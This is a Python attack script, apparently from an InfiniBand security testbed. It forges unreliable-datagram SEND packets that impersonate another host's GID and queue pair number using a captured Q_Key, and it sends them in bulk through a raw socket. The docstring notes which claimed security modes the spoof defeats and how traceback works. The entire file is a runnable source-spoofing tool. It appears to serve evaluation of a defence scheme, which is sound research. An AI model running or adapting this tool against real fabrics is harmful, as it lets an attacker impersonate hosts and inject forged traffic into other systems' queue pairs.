"""Source spoofing (seed 000 type III): UD SENDs that claim another host's GID and QPN.

With a captured Q_Key the target accepts them as the spoofed peer's in mode 0; in modes 1-4 the MAC
fails (the attacker has no key), and a bad-key trap would name the spoofed GID, which is why the SM
trusts the marking field, not the source address, for traceback.
"""

from __future__ import annotations

from ibsec.builder import Builder, gid_bytes

from .common import RawSocket, blast, checked, gid_text, int0, parser, report, run
from .forging import forged


def main(argv: list[str] | None = None) -> int:
    p = parser(__doc__.splitlines()[0])
    p.add_argument("--src-gid", required=True, help="the GID to impersonate")
    p.add_argument("--src-qpn", type=int0, required=True, help="the QPN to impersonate")
    p.add_argument("--dst-gid", required=True)
    p.add_argument("--dst-qpn", type=int0, required=True)
    p.add_argument("--qkey", type=int0, required=True, help="captured Q_Key of the destination QP")
    p.add_argument("--pkey", type=int0, default=0xFFFF)
    p.add_argument("--mode", type=int, choices=range(5), default=0, help="security mode to claim")
    p.add_argument("--psn", type=int0, default=0, help="first PSN")
    p.add_argument("--data", default="spoofed", help="payload text")
    args = checked(p.parse_args(argv))
    sock = RawSocket(args.iface)
    src = gid_bytes(gid_text(args.src_gid))
    builder = Builder(sock.mac, src)
    summary = blast(
        sock,
        lambda i: forged(
            builder,
            args.mode,
            args.dst_gid,
            "UD_SEND_ONLY",
            args.pkey,
            args.dst_qpn,
            args.psn + i,
            args.data.encode(),
            src_qp=args.src_qpn,
            deth=(args.qkey, args.src_qpn),
        ),
        args,
    )
    report({"attack": "spoof", "claimed_gid": gid_text(args.src_gid), "claimed_qpn": args.src_qpn, **summary})
    sock.close()
    return 0


if __name__ == "__main__":
    run(main)
